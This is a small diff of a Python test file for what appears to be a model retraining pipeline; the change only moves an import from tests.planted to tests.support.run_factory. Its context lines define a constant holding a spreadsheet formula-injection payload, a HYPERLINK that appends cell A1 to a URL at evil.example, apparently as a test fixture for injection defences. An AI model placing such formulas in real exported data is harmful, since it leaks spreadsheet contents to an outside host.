@@ -29,7 +29,7 @@ from include.retraining.steps.decide import check_quality
 from include.retraining.store import layout
 from include.retraining.store.marker import initialise
 from include.retraining.store.object_store import OPTIONS_VARIABLE, URI_VARIABLE, Store
-from tests.planted import CODE, MODEL, decide, plant_run, run_ref, version_name
+from tests.support.run_factory import CODE, MODEL, decide, plant_run, run_ref, version_name
 
 ALWAYS = (datetime(2020, 1, 1, tzinfo=UTC), datetime(2100, 1, 1, tzinfo=UTC))
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
